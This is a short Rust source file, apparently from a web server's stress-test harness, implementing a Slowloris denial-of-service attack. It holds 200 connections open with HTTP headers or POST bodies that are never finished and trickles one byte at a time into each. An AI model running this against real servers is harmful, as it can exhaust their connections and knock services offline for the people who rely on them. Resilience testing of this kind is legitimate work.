//! Slowloris: requests that come byte by byte and never end.

use std::io::Write;
use std::net::TcpStream;

use anyhow::Result;

use super::attack::{Attack, send};

/// How many connections there are.
const CROWD: usize = 200;

/// A head that grows.
pub(super) fn head(attack: &Attack<'_>) -> Result<u64> {
    trickle(attack, b"GET /small.txt HTTP/1.1\r\nHost: a.test\r\nX-Slow: ")
}

/// A body of which there is always more to come.
pub(super) fn body(attack: &Attack<'_>) -> Result<u64> {
    trickle(attack, b"POST /small.txt HTTP/1.1\r\nHost: a.test\r\nContent-Length: 1000000\r\n\r\n")
}

/// Begins connections with `begin`, and lets them go on byte by byte.
pub(super) fn trickle(attack: &Attack<'_>, begin: &[u8]) -> Result<u64> {
    let connect = |nth| -> Result<Option<TcpStream>> {
        let Some(mut stream) = attack.connect(nth)? else { return Ok(None) };
        // One that is refused is gone at the next look.
        let _ = send(&mut stream, begin);
        Ok(Some(stream))
    };
    attack.crowd(CROWD, connect, |stream| stream.write_all(b"z"))
}
